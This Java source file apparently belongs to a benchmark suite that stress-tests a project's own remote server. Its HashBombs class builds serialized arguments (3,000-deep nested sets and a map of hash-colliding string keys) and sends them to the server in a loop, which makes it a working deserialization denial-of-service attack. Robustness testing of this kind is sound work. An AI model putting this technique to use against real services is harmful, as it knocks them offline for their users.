package org.dfra.benchmarks.attack;

import java.io.IOException;
import java.io.ObjectOutputStream;
import java.lang.reflect.Method;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.FutureTask;
import org.dfra.event.DeliveryPolicy;
import org.dfra.event.ModuleListener;
import org.dfra.river.remote.RemoteModule;
import org.dfra.river.remote.effector.RemoteDriveEffector;

/**
 * Calls a public method of the drive with arguments that are expensive to deserialize: nested sets,
 * whose hash codes are computed again at every level, and a table whose keys all have the same hash
 * code. The server does not read the arguments of an administrative method.
 */
final class HashBombs extends AttackTask {

  private static final int NESTED = 3_000;
  private static final int KEYS = 10_000;
  private static final int PAIRS = 14; // characters: 16384 strings with one hash code
  private static final long STACK = 512L << 20; // stack size to serialize the deep nesting

  private final List<byte[]> bombs = new ArrayList<>();

  /** Called by {@code TaskMain} by reflection. */
  public HashBombs() {}

  @Override
  protected void prepare(Target target) throws Exception {
    FutureTask<List<byte[]>> writing =
        new FutureTask<>(() -> List.of(call(nestedSets()), call(collidingKeys())));
    Thread writer = new Thread(null, writing, "writes nested sets", STACK);
    writer.start();
    try {
      bombs.addAll(writing.get());
    } catch (ExecutionException e) {
      throw new IOException("the arguments were not written", e);
    }
  }

  private static byte[] call(Object argument) throws IOException, NoSuchMethodException {
    Method method =
        RemoteModule.class.getMethod("subscribe", ModuleListener.class, DeliveryPolicy.class);
    return CallBytes.with(method, out -> write(out, argument));
  }

  private static void write(ObjectOutputStream out, Object argument) throws IOException {
    out.writeObject(argument);
    out.writeObject(DeliveryPolicy.keepLast(1));
  }

  private static Object nestedSets() {
    Set<Object> outer = new HashSet<>();
    for (int i = 0; i < NESTED; i++) {
      Set<Object> next = new HashSet<>();
      next.add(outer);
      outer = next;
    }
    return outer;
  }

  /** The keys get their hash codes after insertion, so that only the receiver pays. */
  private static Object collidingKeys() {
    Map<List<Object>, String> table = new HashMap<>();
    List<List<Object>> keys = new ArrayList<>();
    for (int i = 0; i < KEYS; i++) {
      List<Object> key = new ArrayList<>(List.of(i));
      table.put(key, "");
      keys.add(key);
    }
    for (int i = 0; i < KEYS; i++) {
      StringBuilder text = new StringBuilder();
      for (int pair = 0; pair < PAIRS; pair++) {
        text.append((i >> pair & 1) == 0 ? "Aa" : "BB");
      }
      keys.get(i).set(0, text.toString());
    }
    return table;
  }

  @Override
  protected void attack(Target target) throws Exception {
    RemoteDriveEffector drive = target.remoteDrive();
    while (!isStopping()) {
      for (byte[] bomb : bombs) {
        var unused = attempt(() -> send(drive, bomb));
      }
    }
  }
}
